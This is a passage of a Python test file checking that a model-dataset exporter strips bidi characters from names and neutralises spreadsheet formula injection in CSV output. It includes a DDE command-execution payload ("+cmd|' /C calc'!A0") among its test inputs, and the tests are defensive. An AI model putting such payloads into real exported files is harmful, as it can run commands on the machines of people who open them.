    assert clean_name(EVIL) == "Evil-7B"
    assert clean_name("  a \t b \u202eevil\u202c  ") == "a b evil"
    assert clean_name("x" * 300) == "x" * 300
    with pytest.raises(ValueError, match="301 characters long"):
        clean_name("x" * 301)
    assert clean_name(42) == 42  # not text: left for the field's own type check


FORMULAS = [FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_neutralise_formula_prefixes_text_a_spreadsheet_would_run(payload: str):
    assert neutralise_formula(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-3.5", "+1e25", "Alpha-70B", "", 3.5, None])
def test_numbers_and_plain_text_are_left_alone(value: object):
    assert neutralise_formula(value) == value


def test_dataset_files_write_formula_names_neutralised():
    row = {c: None for c in COLUMNS}
    row.update(
        model_id="evil",
        model=FORMULA,
        developer="@evil",
        training_flop=-1.5,
        reasoning="-2+3+cmd",
        sources="=1+1",
        notes="plain",
    )
    text = render_csv([tuple(row[c] for c in COLUMNS)])
    written = dict(zip(COLUMNS, list(csv.reader(io.StringIO(text)))[1], strict=True))
    assert written["model"] == "'" + FORMULA
    assert written["developer"] == "'@evil"
    assert written["reasoning"] == "'-2+3+cmd"
    assert written["sources"] == "'=1+1"
    assert written["training_flop"] == "-1.5"  # a number stays a number
    assert written["notes"] == "plain"
    for column, value in written.items():
        assert not value.startswith(("=", "+", "@", "\t", "\r")) or column == "training_flop", (column, value)


def test_lifearchitect_body_cut_after_a_first_cell_is_an_error():
    text = lifearchitect_csv([dict(m) for m in MODELS])
    last = text.rstrip("\n").rfind("\n") + 1
    meta = meta_for(next(f for f in FORMATS if f.id == "lifearchitect"))
    for cut in (text[: text.index(",", last) + 1], text[: text.index(",", last)]):  # "Gamma-405B," / "Gamma-405B"
        with pytest.raises(IngestError, match=r"line \d+ has [12] fields, header has \d+ \(truncated\?\)"):
            SOURCES["lifearchitect"].parse(cut.encode(), meta)


def test_lifearchitect_closing_note_at_full_width_is_skipped():
    text = lifearchitect_csv([dict(m) for m in MODELS])
    width = text.splitlines()[0].count(",")
    noted = text + "," * width + "\n" + "About this sheet" + "," * width + "\n"
    meta = meta_for(next(f for f in FORMATS if f.id == "lifearchitect"))
    assert SOURCES["lifearchitect"].parse(noted.encode(), meta).row_count == len(MODELS)
